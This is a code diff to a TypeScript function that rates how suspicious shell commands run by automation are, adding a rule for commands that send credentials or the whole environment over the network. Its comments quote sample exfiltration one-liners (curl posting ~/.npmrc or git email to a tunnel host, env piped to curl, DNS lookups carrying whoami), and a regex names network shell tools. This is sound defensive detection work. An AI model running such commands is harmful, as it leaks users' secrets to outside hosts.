@@ -1,5 +1,7 @@
 import type { Severity } from '../../signal/schema.js';
+import { readsCredentialStore, sendsData } from '../build-code/behaviors.js';
 import { dnsLookupInShell } from '../code/dns-exfiltration.js';
+import { WHOLE_ENVIRONMENT } from '../code/sink-rules.js';
 import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
 import { findPipeToShell } from '../shell/pipe-to-shell.js';
 import { anyOf, inOrderOnALine } from '../util.js';
@@ -17,7 +19,7 @@ const CHAT_WEBHOOK = /hooks\.slack\.com\/services|discord(?:app)?\.com\/api\/web
 /**
  * How much a command that automation runs on someone's machine deserves a look: high when it pipes a
  * download into a shell, decodes and runs hidden text, looks up a name built from data (DNS
- * exfiltration), or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
+ * exfiltration), sends data while reading a credential store or the whole environment, or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
  * https://x.trycloudflare.com`), medium when it downloads or reaches the network otherwise, `base`
  * otherwise.
  */
@@ -26,6 +28,8 @@ export function commandSeverity(command: string, base: Severity): Severity {
   if (isSuspiciousEndpoint(command) && !CHAT_WEBHOOK.test(command)) return 'high';
   // A DNS lookup of a name built from data (`nslookup "$(whoami).x.tld"`): the lookup carries it out.
   if (dnsLookupInShell(command) !== null) return 'high';
+  // Credentials or the whole environment sent somewhere (`curl -d "$(cat ~/.npmrc)" …`, `env | curl -d @- …`), whatever the host.
+  if (sendsData(command, 'shell') && (readsCredentialStore(command) || WHOLE_ENVIRONMENT.any?.test(command) === true)) return 'high';
   if (/\b(?:curl|wget|nc|ncat|Invoke-WebRequest|iwr)\b|https?:\/\//i.test(command)) return base === 'high' ? 'high' : 'medium';
   return base;
 }
